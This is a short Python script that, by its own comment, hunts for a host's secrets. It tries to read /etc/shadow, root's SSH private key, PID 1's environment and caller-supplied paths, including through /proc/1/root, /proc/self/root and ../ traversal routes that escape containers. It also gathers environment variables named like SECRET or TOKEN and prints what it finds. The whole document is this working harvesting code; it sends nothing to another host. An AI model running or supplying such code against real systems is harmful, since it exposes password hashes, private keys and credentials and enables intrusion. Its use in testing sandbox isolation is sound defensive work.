# Looks for secrets of the host: the password hashes, files whose paths it was told, other processes, other roots, the environment.
import os
import sys

wanted = ["/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/environ", *sys.argv[1:]]
ways = ["{}", "/proc/1/root{}", "/proc/self/root/..{}", "../../../../../..{}"]
found = []
for path in wanted:
    for way in ways:
        try:
            with open(way.format(path), "rb") as file:
                found.append((way.format(path), file.read(200)))
        except OSError:
            pass
found += [(name, value) for name, value in os.environ.items() if "SECRET" in name or "TOKEN" in name]
for item in found:
    print(*item)
print("found", len(found))
